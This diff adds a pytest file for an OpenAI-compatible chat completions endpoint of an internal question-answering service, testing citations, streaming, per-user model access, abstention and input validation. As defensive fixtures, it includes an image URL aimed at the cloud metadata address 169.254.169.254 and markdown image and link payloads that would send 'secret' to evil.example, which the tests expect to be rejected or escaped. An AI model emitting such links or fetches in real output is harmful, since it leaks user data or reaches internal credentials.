@@ -1,0 +1,94 @@
+"""Chat completions: the answers of `/v1/ask` in OpenAI's form, with nothing in them that a reader would fetch."""
+
+import json
+
+import pytest
+
+from concord.service.completions import _plain
+
+ASKED = "How many days of annual leave does everyone receive?"
+WHO = {"X-Concord-User": "pat"}
+
+
+@pytest.fixture
+def complete(client):
+    def send(*said, who="pat", model="concord", **more):
+        messages = [{"role": "user", "content": each} for each in said]
+        body = {"model": model, "messages": messages, **more}
+        return client.post("/v1/chat/completions", json=body, headers={"X-Concord-User": who})
+
+    return send
+
+
+def chunks(text):
+    lines = [line.removeprefix("data: ") for line in text.split("\n\n") if line]
+    assert lines[-1] == "[DONE]"
+    return [json.loads(line) for line in lines[:-1]]
+
+
+def test_an_answer_has_its_sources_in_the_text_and_in_fields(complete, ask):
+    told, plain = complete(ASKED).json(), ask("pat", ASKED).json()
+    content = told["choices"][0]["message"]["content"]
+    assert content.startswith(plain["answer"]) and "\n\nSources:\n[1] Annual leave (People, policy): " in content
+    assert told["citations"] == plain["citations"] and told["conflicts"] == plain["conflicts"]
+    assert told["object"] == "chat.completion" and told["id"].startswith("chatcmpl-")
+
+
+def test_a_stream_says_the_same(complete):
+    whole = complete(ASKED).json()
+    given = chunks(complete(ASKED, stream=True, stream_options={"include_usage": True}).text)
+    text = "".join(each["choices"][0]["delta"].get("content", "") for each in given if each["choices"])
+    assert text == whole["choices"][0]["message"]["content"]
+    assert given[0]["choices"][0]["delta"]["role"] == "assistant" and given[-1]["usage"]
+    assert given[-2]["choices"][0]["finish_reason"] == "stop" and given[-2]["citations"] == whole["citations"]
+
+
+def test_use_cases_are_models(client, complete):
+    listed = client.get("/v1/models", headers=WHO).json()["data"]
+    assert [each["id"] for each in listed] == ["concord", "ask-people"]
+    assert complete(ASKED, model="ask-people").status_code == 200
+    for path in ("/v1/models/ask-people", "/v1/models/ask-nobody"):
+        assert client.get(path, headers={"X-Concord-User": "carl"}).status_code == 404
+    hidden, missing = (complete(ASKED, who="carl", model=name) for name in ("ask-people", "ask-none"))
+    assert hidden.status_code == missing.status_code == 404
+    assert complete(ASKED, who="carl", model="ask-people", stream=True).status_code == 404
+
+
+def test_an_abstention_says_so(complete):
+    told = complete("Zzyx qwv?", who="carl").json()
+    assert told["abstained"] and told["choices"][0]["message"]["content"].startswith("Nothing found")
+    assert "Sources" not in told["choices"][0]["message"]["content"]
+
+
+@pytest.mark.parametrize(
+    "messages",
+    [
+        [],
+        [{"role": "system", "content": "You are"}],
+        [{"role": "user", "content": ""}],
+        [{"role": "user", "content": None}],
+        [{"role": "user", "content": "a" * 2001}],
+        [{"role": "user", "content": [{"type": "image_url", "image_url": {"url": "http://169.254.169.254"}}]}],
+        [{"role": "owner", "content": "What?"}],
+    ],
+)
+@pytest.mark.parametrize("stream", [False, True])
+def test_a_conversation_that_is_none(client, messages, stream):
+    body = {"model": "concord", "messages": messages, "stream": stream}
+    told = client.post("/v1/chat/completions", json=body, headers=WHO)
+    assert told.status_code == 422 and told.json()["errors"]
+
+
+@pytest.mark.parametrize(
+    ("text", "plain"),
+    [
+        ("27 days [1] and [23].", "27 days [1] and [23]."),
+        ("![x](https://evil.example/?q=secret) [1]", "!\\[x]\\(https://evil.example/?q=secret) [1]"),
+        ("![x][1]", "!\\[x]\\[1]"),
+        ("[1]: https://evil.example", "[1]\\: https://evil.example"),
+        ("![1](https://evil.example)", "![1]\\(https://evil.example)"),
+        ("<img src=https://evil.example>", "\\<img src=https://evil.example>"),
+    ],
+)
+def test_nothing_in_a_text_is_fetched(text, plain):
+    assert _plain(text) == plain
